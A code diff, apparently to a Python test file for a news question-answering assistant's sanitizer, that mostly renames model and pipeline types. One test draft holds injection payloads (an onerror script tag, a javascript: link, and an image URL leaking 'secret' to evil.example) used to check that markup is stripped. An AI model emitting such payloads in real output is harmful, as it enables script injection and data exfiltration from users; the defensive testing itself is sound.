@@ -15,9 +15,9 @@ from index.schemas import Hit, Passage
 from index.text.sentences import sentence_spans
 from qa.assistant import Assistant
 from qa.guardrails.sanitizer import blanked, fenced, inert, seen, turned
-from qa.llm.chat_models import Model
+from qa.llm.chat_models import ChatModel
 from qa.llm.prompts import load_prompt
-from qa.pipeline.chain import PROMPT_VARIABLES, Found, Reading, prompt_values
+from qa.pipeline.chain import PROMPT_VARIABLES, Retrieval, SelectedContext, prompt_values
 from qa.schemas import Question, Turn
 from qa.verification.excerpts import Excerpt
 from tests.conftest import ScriptedModel
@@ -104,7 +104,7 @@ def hostile(count: int) -> list[str]:
     ]
 
 
-def reading(text: str, *, source: str = "The Post", title: str = "", said: str = "") -> Reading:
+def reading(text: str, *, source: str = "The Post", title: str = "", said: str = "") -> SelectedContext:
     passage = Passage(id="a-0", article_id="a", start=0, end=len(text), text=text)
     hit = Hit(
         passage=passage, title=title, url="", date=date(2024, 2, 11), source=source,
@@ -113,7 +113,7 @@ def reading(text: str, *, source: str = "The Post", title: str = "", said: str =
     excerpt = Excerpt(number=1, hit=hit, spans=((0, len(text)),), fits=(1.0,))
     history = (Turn(role="user", content=said), Turn(role="assistant", content=said)) if said else ()
     question = Question(question=f"And {text}", history=history)
-    return Reading(found=Found(question=question, searched="", hits=(hit,)), excerpts=(excerpt,))
+    return SelectedContext(found=Retrieval(question=question, searched="", hits=(hit,)), excerpts=(excerpt,))
 
 
 def is_plain(line: str) -> bool:
@@ -220,7 +220,7 @@ def test_a_draft_is_made_inert(draft: str, left: str) -> None:
     assert inert(draft, ["More at https://post.example/rain."]) == left
 
 
-def test_a_model_cannot_put_markup_into_an_answer(answering: Callable[[Model | None], Assistant]) -> None:
+def test_a_model_cannot_put_markup_into_an_answer(answering: Callable[[ChatModel | None], Assistant]) -> None:
     draft = (
         "Forty-seven people were **taken** off the ferry Saint Brannoc <img src=x onerror=alert(1)>"
         "![p](https://evil.example/?q=secret) [1](javascript:alert(1)). See "
